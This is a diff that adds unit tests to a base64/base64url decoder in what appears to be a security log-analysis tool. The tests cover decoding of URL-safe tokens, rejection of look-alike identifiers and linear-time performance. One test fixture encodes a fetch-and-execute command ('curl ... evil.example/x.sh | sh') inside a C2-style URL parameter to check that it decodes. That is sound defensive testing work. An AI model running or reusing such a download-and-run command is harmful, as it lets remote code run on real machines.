@@ -9,6 +9,7 @@ import { QueryProvider } from "../../src/data/queryProvider";
 import { base64, Base64Error, BASE64_RECORD_COLUMNS, decodeBase64Run, MAX_ORIGINAL_CHARS } from "../../src/transform/base64Unpack";
 import { detectFileType } from "../../src/transform/fileTypes";
 import { BatchBuilder } from "../../src/transform/workers/ipcWriter";
+import { assertLinear } from "../helpers/linearTime";
 
 const qp = new QueryProvider("LocalData");
 const b64 = (data: Uint8Array | string) => Buffer.from(typeof data === "string" ? Buffer.from(data) : data).toString("base64");
@@ -799,4 +800,52 @@ test("base64 without its padding (stripped by Python, JWT, base64url writers, or
     if (base64.unpack(`C:\\Temp\\${token}.tmp`).items.length) decoded++;
   }
   assert.equal(decoded, 0);
+});
+
+test("base64url (RFC 4648 §5: `-` and `_`) is decoded as one run: Google Update's /ping XML in the lab data, URL tokens", async () => {
+  const procs = await qp.WindowsSecurity.list_host_processes();
+  const decoded = base64.unpackDf(procs.withRowIndex("i").filter(pl.col("i").eq(9163)).drop("i"), { column: "CommandLine" });
+  // One item for the whole payload (it was three pieces cut at each '-': the XML's start and two stray fragments).
+  assert.equal(decoded.height, 1);
+  const xml = String(decoded.getColumn("decoded_string").get(0));
+  assert.match(xml, /^<\?xml version="1\.0" encoding="UTF-8"\?><request protocol="3\.0"/);
+  assert.match(xml, /<\/request>$/);
+  // A URL-safe token of text (stripped padding, '-' and '_' in it), in a URL parameter.
+  const cmd = "curl -s http://evil.example/x.sh?id=~~~>>>??? | sh";
+  const token = Buffer.from(cmd).toString("base64url");
+  assert.ok(/[-_]/.test(token) && !token.endsWith("="));
+  const r = base64.unpack(`GET /c2?d=${token}&t=1`);
+  assert.deepEqual(r.items.map((i) => i.decodedString), [cmd]);
+  assert.equal(r.fullDecodedString, `GET /c2?d=<decoded type='string' name='[None]' index='1' depth='1'>${cmd}</decoded>&t=1`);
+  // Hyphenated and underscored names, GUIDs and hashes around them are no base64url: nothing new is decoded.
+  for (const text of [
+    "Microsoft-Windows-Security-Auditing-Extended-Logging-Provider",
+    "{6ba7b810-9dad-11d1-80b4-00c04fd430c8}-{6ba7b811-9dad-11d1-80b4-00c04fd430c8}",
+    "/usr/lib/python3/dist-packages/__pycache__/very_long_module_name_for_testing_purposes.cpython-311.pyc",
+    "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.1220_none_7e21bc567c7ed16b",
+  ]) {
+    assert.deepEqual(base64.unpack(text).items.filter((i) => i.encodingType !== "binary"), [], text);
+  }
+  // Long random alphanumeric stretches joined by '-' and '_' to words (build ids, artefact names): the widened run
+  // is tried and refused, never taken for text.
+  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+  let text = 0;
+  for (let k = 0; k < 1000; k++) {
+    const digest = crypto.createHash("sha512").update(`url${k}`).digest();
+    const id = Array.from({ length: 30 + (k % 30) }, (_, i) => alphabet[digest[i] % alphabet.length]).join("");
+    const name = [`release-${id}-final`, `pkg_${id}_x64`, `${id}-${id.slice(0, 7)}`][k % 3];
+    if (base64.unpack(`C:\build\${name}.zip`).items.some((i) => i.encodingType !== "binary")) text++;
+  }
+  assert.equal(text, 0);
+});
+
+test("base64url widening is linear: a megabyte of 30-character candidates joined by '-' or '_' (each would widen to the whole run)", () => {
+  // 'zzz…' is no text, alone or widened: every candidate is refused, so none ends the run (widened from each, it was
+  // quadratic: 5.1 s for 256 KB, 22 s for 512 KB); 'QUF…' decodes alone.
+  for (const piece of ["z".repeat(30), "QUFB".repeat(8).slice(0, 31)]) {
+    for (const sep of ["-", "_"]) {
+      const make = (n: number) => `${piece}${sep}`.repeat(Math.ceil(n / (piece.length + 1))).slice(0, n);
+      assertLinear(`base64url run of ${piece.slice(0, 4)}… candidates joined by '${sep}'`, make, (s) => base64.unpack(s, { maxFragments: 1e9 }));
+    }
+  }
 });
